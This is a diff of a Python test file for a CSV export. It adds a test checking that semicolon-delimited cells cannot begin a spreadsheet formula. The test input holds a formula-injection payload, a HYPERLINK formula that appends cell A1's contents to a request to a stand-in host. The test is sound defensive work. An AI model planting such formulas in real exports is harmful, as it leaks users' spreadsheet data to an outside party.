@@ -1,6 +1,7 @@
 """Settings are shown with their values and changed in words; the export is safe to open."""
 
 import csv
+import io
 from datetime import date, time
 from decimal import Decimal
 
@@ -175,6 +176,13 @@ def test_no_cell_begins_a_formula(evil: str) -> None:
     found = rows(update(text=evil))[1]["text"]
 
     assert found.startswith("'")
+
+
+def test_no_cell_begins_a_formula_where_cells_are_parted_by_semicolons() -> None:
+    text = export_csv(book_with(update(text='all fine;=HYPERLINK("http://x.example?"&A1;"click"); +1')))
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+
+    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]
 
 
 def test_the_export_command_shows_every_row() -> None:
